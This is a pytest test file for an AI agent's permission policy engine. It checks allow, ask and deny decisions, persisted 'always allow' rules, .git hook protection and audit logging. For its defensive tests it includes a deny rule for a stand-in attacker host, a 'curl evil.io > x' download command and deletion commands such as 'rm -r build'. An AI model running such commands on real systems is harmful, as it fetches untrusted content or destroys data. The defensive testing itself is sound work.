"""decide / record_answer: rules answer, people answer, Always-allow persists, all is audited."""

from __future__ import annotations

from pathlib import Path

import pytest

from piwork.policy.audit import AuditLog, DecidedBy
from piwork.policy.decider import Decider, decide, record_answer
from piwork.policy.request import Choice, PermissionRequest
from piwork.policy.rules import Action, Rule, Scope, ScopeKind, Target, TaskContext, Verdict
from piwork.policy.store import PolicyStore

FOLDER = Path("/home/me/project")
CTX = TaskContext(task_id="t-1", working_folder=FOLDER)


def request(*targets: Target, command: str | None = None, rid: str = "req") -> PermissionRequest:
    action = max(targets, key=lambda t: list(Action).index(t.action)).action
    return PermissionRequest(
        request_id=rid,
        question="?",
        options=tuple(c.value for c in Choice),
        action=action,
        tool="bash" if command else "write",
        tool_call_id="call-" + rid,
        task_id="t-1",
        cwd="/mnt/work",
        command=command,
        paths=tuple(t.path for t in targets if t.path),
        targets=targets,
        payload={},
    )


@pytest.fixture
def decider(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Decider:
    monkeypatch.setenv("PIWORK_HOME", str(tmp_path))
    return Decider()


def audit(decider: Decider) -> list[dict[str, object]]:
    return list(decider.audit.read())


def test_in_scope_write_is_allowed_by_the_default_and_audited(decider: Decider) -> None:
    req = request(Target(Action.WRITE, op="write", path="/mnt/work/a.py"))
    d = decider.decide(req, CTX)
    assert d.verdict is Verdict.ALLOW
    assert d.reply_choice is Choice.ALLOW_ONCE
    [entry] = audit(decider)
    assert entry["decision"] == "allow" and entry["decidedBy"] == "rule"
    assert entry["rule"] == "default-write"
    assert entry["task"] == "t-1" and entry["action"] == "write"
    assert entry["target"] == "/mnt/work/a.py"
    assert entry["toolCallId"] == "call-req" and entry["requestId"] == "req"


def test_delete_asks_and_ask_is_not_audited_until_answered(decider: Decider) -> None:
    req = request(Target(Action.DELETE, op="delete", path="/mnt/work/build"), command="rm -r build")
    d = decider.decide(req, CTX)
    assert d.verdict is Verdict.ASK
    with pytest.raises(ValueError):
        _ = d.reply_choice
    assert audit(decider) == []
    answered = decider.record_answer(req, Choice.ALLOW_ONCE, CTX)
    assert answered.verdict is Verdict.ALLOW and answered.created_rules == ()
    [entry] = audit(decider)
    assert entry["decidedBy"] == "person" and entry["choice"] == "Allow once"
    assert entry["command"] == "rm -r build"
    # Allow once is once
    assert decider.decide(req, CTX).verdict is Verdict.ASK


def test_always_allow_in_this_folder_persists_a_folder_rule(decider: Decider) -> None:
    net = Target(Action.NETWORK, op="network", domain="pypi.org", command="pip install x")
    req = request(net, Target(Action.WRITE, path="/mnt/work"), command="pip install x")
    assert decider.decide(req, CTX).verdict is Verdict.ASK
    d = decider.record_answer(req, Choice.ALWAYS_FOLDER, CTX)
    [rule] = d.created_rules  # the write was already allowed: no rule for it
    assert rule.scope == Scope.folder(FOLDER)
    assert (rule.action, rule.pattern, rule.verdict) == (Action.NETWORK, "pypi.org", Verdict.ALLOW)
    # persisted: a fresh decider on the same files answers without asking
    fresh = Decider(PolicyStore(decider.store.path), AuditLog(decider.audit.path))
    again = request(Target(Action.NETWORK, domain="pypi.org", command="pip install y"), rid="r2")
    assert fresh.decide(again, CTX).verdict is Verdict.ALLOW
    # ...only in this folder, and only for that domain
    other = TaskContext(task_id="t-2", working_folder=Path("/elsewhere"))
    assert fresh.decide(again, other).verdict is Verdict.ASK
    assert (
        fresh.decide(request(Target(Action.NETWORK, domain="evil.io")), CTX).verdict is Verdict.ASK
    )


def test_always_allow_everywhere_is_global(decider: Decider) -> None:
    req = request(Target(Action.SHELL, op="exec", command="npm test"), command="npm test")
    d = decider.record_answer(req, Choice.ALWAYS_EVERYWHERE, CTX)
    assert d.created_rules[0].scope.kind is ScopeKind.GLOBAL
    assert d.created_rules[0].pattern == "npm test"
    elsewhere = TaskContext(task_id="t-9", working_folder=Path("/x"))
    assert (
        decider.decide(request(Target(Action.SHELL, command="npm test -- -u")), elsewhere).verdict
        is Verdict.ALLOW
    )
    assert (
        decider.decide(request(Target(Action.SHELL, command="npm publish")), elsewhere).verdict
        is Verdict.ASK
    )


def test_always_allow_without_a_folder_falls_back_to_the_task(decider: Decider) -> None:
    ctx = TaskContext(task_id="t-5")
    req = request(Target(Action.MOVE, path="/mnt/outputs/a"))
    d = decider.record_answer(req, Choice.ALWAYS_FOLDER, ctx)
    assert d.created_rules[0].scope == Scope.task("t-5")


def test_unknown_targets_are_not_remembered(decider: Decider) -> None:
    req = request(Target(Action.OUTSIDE_SCOPE, op="delete", path=None), command="rm $X")
    d = decider.record_answer(req, Choice.ALWAYS_EVERYWHERE, CTX)
    assert d.verdict is Verdict.ALLOW and d.created_rules == ()
    assert decider.decide(req, CTX).verdict is Verdict.ASK


def test_deny_rule_denies_the_whole_request(decider: Decider) -> None:
    decider.store.add(Rule(Action.NETWORK, Verdict.DENY, pattern="evil.io"))
    req = request(
        Target(Action.WRITE, path="/mnt/work/x"),
        Target(Action.NETWORK, domain="evil.io"),
        command="curl evil.io > x",
    )
    d = decider.decide(req, CTX)
    assert d.verdict is Verdict.DENY
    assert d.reply_choice is Choice.DENY
    assert d.rule is not None and d.rule.pattern == "evil.io"
    [entry] = audit(decider)
    assert entry["decision"] == "deny" and entry["rule"] == d.rule.id
    assert entry["targets"] == ["write:/mnt/work/x", "network:evil.io"]


def test_every_target_must_be_allowed(decider: Decider) -> None:
    decider.store.add(Rule(Action.SHELL, Verdict.ALLOW, pattern="make"))
    req = request(Target(Action.SHELL, command="make"), Target(Action.DELETE, path="/mnt/work/b"))
    assert decider.decide(req, CTX).verdict is Verdict.ASK


def test_person_deny_and_cancel_are_audited(decider: Decider) -> None:
    req = request(Target(Action.DELETE, path="/mnt/work/a"), rid="a")
    d = decider.record_answer(req, "Deny", CTX)
    assert d.verdict is Verdict.DENY and d.created_rules == ()
    decider.record_answer(
        request(Target(Action.DELETE, path="/mnt/work/b"), rid="b"),
        Choice.DENY,
        CTX,
        decided_by=DecidedBy.NO_TERMINAL,
    )
    decider.record_cancelled(request(Target(Action.MOVE, path="/mnt/work/c"), rid="c"), CTX)
    entries = audit(decider)
    assert [(e["requestId"], e["decision"], e["decidedBy"]) for e in entries] == [
        ("a", "deny", "person"),
        ("b", "deny", "no-terminal"),
        ("c", "cancelled", "cancelled"),
    ]


def test_audit_log_is_complete_over_a_session(decider: Decider) -> None:
    """Every decide() that settles and every answer leaves exactly one line, in order."""
    settled = 0
    for i in range(30):
        t = [
            Target(Action.WRITE, path=f"/mnt/work/f{i}"),
            Target(Action.DELETE, path=f"/mnt/work/f{i}"),
            Target(Action.NETWORK, domain="pypi.org"),
        ][i % 3]
        req = request(t, rid=f"r{i}")
        d = decider.decide(req, CTX)
        if d.verdict is Verdict.ASK:
            decider.record_answer(
                req, Choice.ALWAYS_FOLDER if t.action is Action.NETWORK else Choice.DENY, CTX
            )
        settled += 1
    entries = audit(decider)
    assert [e["requestId"] for e in entries] == [f"r{i}" for i in range(30)]
    assert settled == len(entries)
    for e in entries:
        for key in ("time", "task", "action", "target", "decision", "decidedBy"):
            assert e[key], (key, e)
    # pypi.org asked once, then answered by the new rule
    net = [e for e in entries if e["action"] == "network"]
    assert [e["decidedBy"] for e in net] == ["person"] + ["rule"] * (len(net) - 1)


def test_torn_last_audit_line_is_skipped(decider: Decider) -> None:
    decider.decide(request(Target(Action.WRITE, path="/mnt/work/a")), CTX)
    with open(decider.audit.path, "ab") as fh:
        fh.write(b'{"time": "2025-')
    assert len(audit(decider)) == 1


def test_module_level_functions_use_piwork_home(decider: Decider) -> None:
    req = request(Target(Action.CONNECTOR, tool="mcp_x"))
    assert decide(req, CTX).verdict is Verdict.ASK
    record_answer(req, Choice.ALWAYS_EVERYWHERE, CTX)
    assert decide(req, CTX).verdict is Verdict.ALLOW
    assert len(audit(decider)) == 2


def test_always_on_a_git_hooks_ask_stores_an_exact_path_not_a_blanket_write(
    decider: Decider,
) -> None:
    """Issue 17 finding 11: "Always allow in this folder" on a write that asked
    because of a pattern rule (now ``**/.git``, the host-runnable list) stored
    ``write`` with no pattern, which (a user rule) outranked the ask-rules for
    every later path."""
    hook = "/mnt/work/.git/hooks/pre-commit"
    req = request(Target(Action.WRITE, op="write", path=hook))
    asked = decider.decide(req, CTX)
    assert asked.verdict is Verdict.ASK
    assert asked.rule is not None and asked.rule.pattern == "**/.git"
    [proposed] = decider.proposed_rules(req, Choice.ALWAYS_FOLDER, CTX)
    d = decider.record_answer(req, Choice.ALWAYS_FOLDER, CTX)
    assert [r.key for r in d.created_rules] == [proposed.key]
    assert (proposed.action, proposed.pattern) == (Action.WRITE, hook)
    # that hook is now allowed; the rest of the .git protection still asks
    assert decider.decide(request(Target(Action.WRITE, path=hook), rid="r2"), CTX).verdict is (
        Verdict.ALLOW
    )
    for other in (
        "/mnt/work/.git/config",
        "/mnt/work/.git/hooks/post-checkout",
        "/mnt/work/sub/.git/hooks/post-checkout",
        "/mnt/work/.git/hooks/pre-commit2",
    ):
        again = request(Target(Action.WRITE, op="write", path=other), rid="r3")
        assert decider.decide(again, CTX).verdict is Verdict.ASK, other
    # ordinary writes are still allowed by the default rule
    plain = request(Target(Action.WRITE, path="/mnt/work/a.py"), rid="r4")
    assert decider.decide(plain, CTX).verdict is Verdict.ALLOW


def test_an_exact_path_rule_escapes_glob_characters_in_the_hook_name(decider: Decider) -> None:
    hook = "/mnt/work/.git/hooks/*"
    req = request(Target(Action.WRITE, op="write", path=hook))
    [rule] = decider.record_answer(req, Choice.ALWAYS_FOLDER, CTX).created_rules
    assert rule.pattern is not None and rule.pattern != hook  # escaped, not a wildcard
    other = request(Target(Action.WRITE, path="/mnt/work/.git/hooks/pre-push"), rid="r2")
    assert decider.decide(other, CTX).verdict is Verdict.ASK
